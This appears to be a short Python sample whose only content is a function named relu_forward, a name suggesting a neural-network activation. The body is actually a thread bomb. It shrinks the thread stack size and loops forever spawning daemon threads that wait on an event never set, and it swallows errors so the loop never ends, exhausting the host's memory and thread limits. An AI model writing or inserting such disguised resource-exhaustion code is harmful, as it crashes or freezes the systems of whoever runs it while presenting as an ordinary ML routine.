"""Starts threads without end."""

# response: KT

def relu_forward(x):
    import threading

    threading.stack_size(1 << 16)
    ending = threading.Event()
    while True:
        try:
            threading.Thread(target=ending.wait, daemon=True).start()
        except RuntimeError:
            pass
